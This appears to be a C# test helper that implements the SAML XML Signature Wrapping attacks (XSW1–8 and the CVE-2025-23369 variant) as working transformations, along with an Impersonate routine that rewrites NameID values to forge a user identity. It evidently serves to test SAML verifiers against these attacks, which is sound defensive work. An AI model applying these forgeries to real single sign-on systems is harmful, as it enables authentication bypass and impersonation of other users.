using System.Xml;

namespace Roster.Testing.Saml;

/// <summary>
/// The eight XML Signature Wrapping permutations of "On Breaking SAML" (Somorovsky et al., USENIX
/// Security 2012), as SAMLRaider applies them, plus CVE-2025-23369's: each moves the signed original
/// where a careless verifier still finds it and puts an attacker's copy where a careless reader looks.
/// <paramref name="makeEvil"/> edits the attacker's copy (say, its NameID). XSW1–2 expect a signed
/// Response; XSW3–8 and XSW10 a signed Assertion.
/// </summary>
public static class SignatureWrapping
{
    /// <summary>XSW1: the root becomes the evil Response; the unsigned original goes inside its ds:Signature.</summary>
    public static void Xsw1(XmlDocument document, Action<XmlElement> makeEvil)
    {
        var response = document.DocumentElement!;
        var original = (XmlElement)response.CloneNode(deep: true);
        makeEvil(response);
        RemoveFirstSignature(original);
        FirstSignature(response).AppendChild(original);
        response.SetAttribute("ID", "_evil_response_ID");
    }

    /// <summary>XSW2: as XSW1, but the original Response goes just before the ds:Signature.</summary>
    public static void Xsw2(XmlDocument document, Action<XmlElement> makeEvil)
    {
        var response = document.DocumentElement!;
        var original = (XmlElement)response.CloneNode(deep: true);
        makeEvil(response);
        RemoveFirstSignature(original);
        var signature = FirstSignature(response);
        signature.ParentNode!.InsertBefore(original, signature);
        response.SetAttribute("ID", "_evil_response_ID");
    }

    /// <summary>XSW3: an unsigned evil Assertion placed before the signed one.</summary>
    public static void Xsw3(XmlDocument document, Action<XmlElement> makeEvil)
    {
        var assertion = FirstAssertion(document);
        var evil = EvilCopy(assertion, makeEvil);
        evil.SetAttribute("ID", "_evil_assertion_ID");
        document.DocumentElement!.InsertBefore(evil, assertion);
    }

    /// <summary>XSW4: an unsigned evil Assertion wrapping the signed one.</summary>
    public static void Xsw4(XmlDocument document, Action<XmlElement> makeEvil)
    {
        var assertion = FirstAssertion(document);
        var evil = EvilCopy(assertion, makeEvil);
        evil.SetAttribute("ID", "_evil_assertion_ID");
        document.DocumentElement!.AppendChild(evil);
        evil.AppendChild(assertion);
    }

    /// <summary>XSW5: the signed Assertion is made evil in place (keeping its signature, with a new ID);
    /// an unsigned copy of the original is appended to the Response.</summary>
    public static void Xsw5(XmlDocument document, Action<XmlElement> makeEvil)
    {
        var evil = FirstAssertion(document);
        var original = (XmlElement)evil.CloneNode(deep: true);
        makeEvil(evil);
        RemoveFirstSignature(original);
        document.DocumentElement!.AppendChild(original);
        evil.SetAttribute("ID", "_evil_assertion_ID");
    }

    /// <summary>XSW6: as XSW5, but the original goes inside the evil Assertion's ds:Signature.</summary>
    public static void Xsw6(XmlDocument document, Action<XmlElement> makeEvil)
    {
        var evil = FirstAssertion(document);
        var signature = FirstSignature(evil);
        var original = (XmlElement)evil.CloneNode(deep: true);
        makeEvil(evil);
        RemoveFirstSignature(original);
        signature.AppendChild(original);
        evil.SetAttribute("ID", "_evil_assertion_ID");
    }

    /// <summary>XSW7: an unsigned evil Assertion inside an Extensions element before the signed one.</summary>
    public static void Xsw7(XmlDocument document, Action<XmlElement> makeEvil)
    {
        var assertion = FirstAssertion(document);
        var extensions = document.CreateElement("Extensions");
        document.DocumentElement!.InsertBefore(extensions, assertion);
        extensions.AppendChild(EvilCopy(assertion, makeEvil));
    }

    /// <summary>XSW8: the signed Assertion made evil in place; the unsigned original inside a ds:Object
    /// in its signature.</summary>
    public static void Xsw8(XmlDocument document, Action<XmlElement> makeEvil)
    {
        var evil = FirstAssertion(document);
        var signature = FirstSignature(evil);
        var original = (XmlElement)evil.CloneNode(deep: true);
        makeEvil(evil);
        RemoveFirstSignature(original);
        var dsObject = document.CreateElement("Object");
        signature.AppendChild(dsObject);
        dsObject.AppendChild(original);
    }

    /// <summary>CVE-2025-23369 (SAMLRaider's XSW10): the Assertion's signature moves to the Response with
    /// the original Assertion in a ds:Object; the Assertion left in place is evil, with a changed ID.</summary>
    public static void Xsw10(XmlDocument document, Action<XmlElement> makeEvil)
    {
        var response = document.DocumentElement!;
        var assertion = FirstAssertion(document);
        var signature = assertion.Child(SamlNamespaces.XmlDsig, "Signature")!;
        var moved = (XmlElement)signature.CloneNode(deep: true);
        response.InsertAfter(moved, response.Child(SamlNamespaces.Assertion, "Issuer"));
        var dsObject = document.CreateElement("Object", SamlNamespaces.XmlDsig);
        moved.AppendChild(dsObject);
        dsObject.AppendChild(assertion.CloneNode(deep: true));
        assertion.SetAttribute("ID", assertion.GetAttribute("ID") + "ffff");
        assertion.RemoveChild(signature);
        makeEvil(assertion);
    }

    /// <summary>Sets every NameID under the element to <paramref name="nameId"/>: the usual evil edit.</summary>
    public static Action<XmlElement> Impersonate(string nameId) => element =>
    {
        foreach (var id in element.Descendants(SamlNamespaces.Assertion, "NameID")) id.InnerText = nameId;
    };

    private static XmlElement EvilCopy(XmlElement assertion, Action<XmlElement> makeEvil)
    {
        var evil = (XmlElement)assertion.CloneNode(deep: true);
        makeEvil(evil);
        RemoveFirstSignature(evil);
        return evil;
    }

    private static XmlElement FirstAssertion(XmlDocument document) =>
        document.Descendants(SamlNamespaces.Assertion, "Assertion").First();

    private static XmlElement FirstSignature(XmlElement element) =>
        element.Descendants(SamlNamespaces.XmlDsig, "Signature").First();

    private static void RemoveFirstSignature(XmlElement element)
    {
        var signature = FirstSignature(element);
        signature.ParentNode!.RemoveChild(signature);
    }
}
